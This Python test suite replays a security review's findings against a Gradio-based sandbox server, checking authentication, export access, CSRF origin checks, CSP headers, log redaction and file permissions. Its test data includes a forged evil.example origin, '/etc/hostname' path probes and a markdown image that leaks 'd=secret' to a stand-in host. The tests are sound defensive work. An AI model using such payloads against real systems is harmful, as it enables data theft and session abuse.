"""The attacks of the security review, replayed over HTTP against the running server (issue 11).

Each test reproduces one finding: it failed on the code before the front door (sandbox/ui/gate.py) and passes now.
"""

from __future__ import annotations

import json
import re
import stat
import time

import httpx
import pytest

from browser import add_account, served_playground
from conftest import cli_env
from sandbox.store import InteractionLog
from test_access_attack import GradioSession

CANARY = "zqcanary7723"
EMPLOYEE, ADMIN, VICTIM = "door-emp", "door-boss", "door-victim"
METRICS_TOKEN = "scrape-token-5d1e"


@pytest.fixture(scope="module")
def app(tmp_path_factory, local_model_url):
    base = tmp_path_factory.mktemp("front-door")
    data_dir = base / "data"
    passwords = {EMPLOYEE: add_account(data_dir, EMPLOYEE), ADMIN: add_account(data_dir, ADMIN, "admin"),
                 VICTIM: add_account(data_dir, VICTIM)}
    InteractionLog(data_dir / "sandbox.db").start(
        user=VICTIM, role="employee", model="local", status="ok", conversation_id="victim-conv", turn=1,
        prompt=f"Quarterly numbers for {CANARY}-audit", answer=f"Answer about {CANARY}-answer")
    env = cli_env(data_dir, SANDBOX_LOCAL_MODEL_URL=local_model_url, SANDBOX_METRICS_TOKEN=METRICS_TOKEN,
                  SANDBOX_SECURE_COOKIES="1")
    log = base / "serve.log"
    with served_playground(env, log) as url:
        yield {"url": url, "passwords": passwords, "data_dir": data_dir, "log": log}


def signed_in_cookie(app, user: str) -> dict:
    """The session cookie, read from Set-Cookie (httpx keeps no Secure cookie from a plain-HTTP answer)."""
    response = httpx.post(app["url"] + "signin", data={"username": user, "password": app["passwords"][user]})
    assert response.status_code == 303, response.text[-300:]
    return {"sandbox_session": re.search(r"sandbox_session=([^;]+)", response.headers["set-cookie"]).group(1)}


def session(app, user: str) -> GradioSession:
    return GradioSession(app["url"], signed_in_cookie(app, user))


def dependency(client: GradioSession, api_name: str = "", *, trigger: str = "", output: str = "") -> dict:
    """The event handler triggered by the component with elem_id `trigger` (a tab's opening when `trigger` is a
    tab's elem_id) and writing the component with elem_id `output`, found in the page's config, never by its
    generated name (which shifts whenever a tab is added)."""
    config = client.http.get("/config").json()
    ids = {c["id"]: c.get("props", {}).get("elem_id") for c in config["components"]}
    return next(d for d in config["dependencies"] if (not api_name or d["api_name"] == api_name)
                and (not trigger or any(ids.get(t[0]) == trigger for t in d["targets"]))
                and (not output or any(ids.get(o) == output for o in d["outputs"])))


def admin_exports(app) -> tuple[GradioSession, str]:
    """An admin opens the audit tab and exports it as CSV; (the admin's session, the export's file URL)."""
    admin = session(app, ADMIN)
    opened = dependency(admin, trigger="tab-audit", output="audit-table")
    status, text, done = admin.call(opened["id"], [], opened["targets"][0][0])
    assert done and done["success"] and CANARY in text, text[-300:]
    export = dependency(admin, trigger="audit-export-csv")
    status, text, done = admin.call(export["id"], [""] * len(export["inputs"]), export["targets"][0][0])
    assert done and done["success"], text[-300:]
    return admin, done["output"]["data"][0]["url"]


def test_an_admins_screen_is_not_reachable_through_its_session_hash(app):
    """deep_link?session_hash=<the admin's> wrote the admin's whole screen to a state.json any user could fetch."""
    admin, _ = admin_exports(app)
    employee = session(app, EMPLOYEE)
    link = employee.http.get("/gradio_api/deep_link", params={"session_hash": admin.session_hash})
    assert link.status_code == 404 and CANARY not in link.text
    fetched = [employee.http.get("/", params={"deep_link": link.text.strip('"')}),
               employee.http.get("/config", params={"deep_link": link.text.strip('"')})]
    for deep_links in (app["data_dir"] / "gradio").rglob("deep_links"):
        for state in deep_links.rglob("state.json"):
            fetched.append(employee.http.get(f"/gradio_api/file={state}"))
    assert all(CANARY not in r.text for r in fetched)
    assert not list((app["data_dir"] / "gradio").rglob("state.json"))


def test_an_export_file_is_served_only_to_its_exporter_or_an_admin(app):
    admin, url = admin_exports(app)
    assert "/gradio_api/file=" in url
    path = url[url.index("/gradio_api/file="):]
    assert admin.http.get(path).status_code == 200 and CANARY in admin.http.get(path).text
    employee = session(app, EMPLOYEE).http.get(path)
    assert employee.status_code == 403 and CANARY not in employee.text
    stranger = httpx.get(app["url"].rstrip("/") + path)
    assert stranger.status_code == 401 and CANARY not in stranger.text


def test_every_route_needs_sign_in_unless_allow_listed(app, sandbox):
    """Each route the app registers (ours and Gradio's), called as a stranger with every method it accepts."""
    from starlette.routing import Mount, Route

    from sandbox.ui.gate import STRANGER_ROUTES
    from sandbox.ui.server import build_asgi

    def routes(router, prefix=""):
        for route in router.routes:
            if isinstance(route, Mount):
                yield from routes(route.app, prefix + route.path)
            elif hasattr(route, "original_router"):  # FastAPI's included router (Gradio's /gradio_api routes)
                yield from routes(route.original_router, prefix + route.include_context.prefix)
            elif isinstance(route, Route):
                yield prefix + route.path, route.methods or {"GET"}

    found = sorted({(method, path) for path, methods in routes(build_asgi(sandbox)) for method in methods})
    assert len(found) > 60 and ("GET", "/gradio_api/heartbeat/{session_hash}") in found
    answered = {}
    with httpx.Client(base_url=app["url"], timeout=30) as stranger:
        for method, template in found:
            path = re.sub(r"\{[^}]+\}", "x", template.replace("{path_or_url:path}", "/etc/hostname"))
            response = stranger.request(method, path, json={} if method in ("POST", "PUT") else None)
            answered[(method, template)] = response.status_code
    open_routes = {key: code for key, code in answered.items()
                   if code != 401 and not (key == ("GET", "/") and code == 303)}
    allowed = STRANGER_ROUTES | {("HEAD", "/")}
    assert set(open_routes) <= allowed, f"answered a stranger: {sorted(set(open_routes) - allowed)}"
    for gone in (("GET", "/gradio_api/openapi.json"), ("GET", "/metrics"), ("POST", "/gradio_api/cancel"),
                 ("GET", "/gradio_api/heartbeat/{session_hash}")):
        assert answered.get(gone) == 401, (gone, answered.get(gone))
    assert httpx.get(app["url"] + "openapi.json").status_code == 401
    assert httpx.get(app["url"] + "docs").status_code == 401


def test_metrics_need_the_scrape_token_or_an_admin(app):
    url = app["url"] + "metrics"
    assert httpx.get(url).status_code == 401
    assert httpx.get(url, headers={"Authorization": "Bearer wrong"}).status_code == 401
    assert session(app, EMPLOYEE).http.get("/metrics").status_code == 403
    assert "sandbox_requests" in httpx.get(url, headers={"Authorization": f"Bearer {METRICS_TOKEN}"}).text
    assert session(app, ADMIN).http.get("/metrics").status_code == 200


def test_sign_in_and_sign_out_refuse_other_sites_and_sign_out_needs_a_post(app):
    form = {"username": EMPLOYEE, "password": app["passwords"][EMPLOYEE]}
    forged = httpx.post(app["url"] + "signin", data=form, headers={"Origin": "http://evil.example"})
    assert forged.status_code == 403 and "sandbox_session" not in forged.headers.get("set-cookie", "")
    referred = httpx.post(app["url"] + "signin", data=form, headers={"Referer": "http://evil.example/page"})
    assert referred.status_code == 403
    own = httpx.post(app["url"] + "signin", data=form, headers={"Origin": app["url"].rstrip("/")})
    assert own.status_code == 303
    cookie = own.headers["set-cookie"].lower()
    assert "httponly" in cookie and "samesite=lax" in cookie and "secure" in cookie  # SANDBOX_SECURE_COOKIES=1
    cookies = {"sandbox_session": re.search(r"sandbox_session=([^;]+)", own.headers["set-cookie"]).group(1)}
    config = lambda: httpx.get(app["url"] + "config", cookies=cookies).status_code  # noqa: E731
    assert httpx.get(app["url"] + "signout", cookies=cookies).status_code == 200  # a page with a button
    assert config() == 200, "a GET (a link or an image on another site) signed the user out"
    refused = httpx.post(app["url"] + "signout", cookies=cookies, headers={"Origin": "http://evil.example"})
    assert refused.status_code == 403 and config() == 200
    out = httpx.post(app["url"] + "signout", cookies=cookies, headers={"Origin": app["url"].rstrip("/")})
    assert out.status_code == 303 and config() == 401


def test_every_response_carries_a_content_security_policy_without_remote_images(app):
    employee = session(app, EMPLOYEE)
    for response in (httpx.get(app["url"] + "signin"), employee.http.get("/"), employee.http.get("/config"),
                     httpx.get(app["url"] + "config")):
        policy = response.headers.get("content-security-policy", "")
        directives = dict((d.split(" ", 1) + [""])[:2] for d in policy.split("; "))
        assert directives.get("img-src") == "'self' data: blob:" and directives.get("connect-src") == "'self'", policy
        assert "*" not in policy and "http" not in policy
        assert response.headers.get("x-content-type-options") == "nosniff"


def test_request_values_are_not_echoed_to_the_client_or_written_to_the_log(app):
    """A value the page never offers made Gradio answer and print "Value: '<it>' is not in the list of choices"."""
    employee = session(app, EMPLOYEE)
    send = dependency(employee, "send")  # feedback: (state, rating radio, comment, better answer, consent)
    status, text, done = employee.call(send["id"], [None, f"{CANARY}-rating", "", "", False],
                                       send["targets"][0][0])
    assert done is not None and not done["success"]
    assert CANARY not in text and "could not be handled" in done["output"]["error"]
    chat = dependency(employee, "respond")  # a chat history that is not a list: a validation error
    status, text, done = employee.call(chat["id"], ["hi", f"{CANARY}-chat", "local", None], chat["targets"][0][0])
    assert done is not None and not done["success"] and CANARY not in text
    opened = dependency(employee, trigger="tab-audit", output="audit-table")  # an admin tab: our own refusal still reads as written
    status, text, done = employee.call(opened["id"], [], opened["targets"][0][0])
    assert done["output"]["error"] == "Only admins may do this."
    time.sleep(1)
    log = app["log"].read_text(errors="replace")
    assert "Traceback" in log, "the failures above should have been logged (with their messages withheld)"
    assert CANARY not in log


def test_data_directory_and_files_are_private(app):
    admin_exports(app)  # an export and Gradio's cached copy of it exist
    data_dir = app["data_dir"]
    assert stat.S_IMODE(data_dir.stat().st_mode) == 0o700
    assert stat.S_IMODE((data_dir / "sandbox.db").stat().st_mode) == 0o600
    for name in ("sandbox.db-wal", "sandbox.db-shm"):  # present while the server has the database open
        if (data_dir / name).exists():
            assert stat.S_IMODE((data_dir / name).stat().st_mode) == 0o600, name
    exposed = {str(p.relative_to(data_dir)): oct(stat.S_IMODE(p.stat().st_mode)) for p in data_dir.rglob("*")
               if stat.S_IMODE(p.stat().st_mode) & 0o077}
    assert not exposed, exposed
    assert list((data_dir / "gradio").rglob("*.csv")), "Gradio's cache should live in the data directory"


def test_no_remote_image_is_left_in_rendered_text():
    from sandbox.ui.render import no_remote_images

    leak = "Here ![x](http://host.example/leak.png?d=secret) and <img src='https://h.example/a.png'> and " \
           "![y](//h.example/b.png) and ![ok](data:image/png;base64,AAAA) and ![local](/logo.png)"
    shown = no_remote_images(leak)
    assert "leak.png" not in shown and "a.png" not in shown and "b.png" not in shown and "<img" not in shown
    assert "data:image/png;base64,AAAA" in shown and "/logo.png" in shown
    assert "[image not shown: x from host.example]" in shown
    assert json.dumps(no_remote_images("plain text")) == '"plain text"'
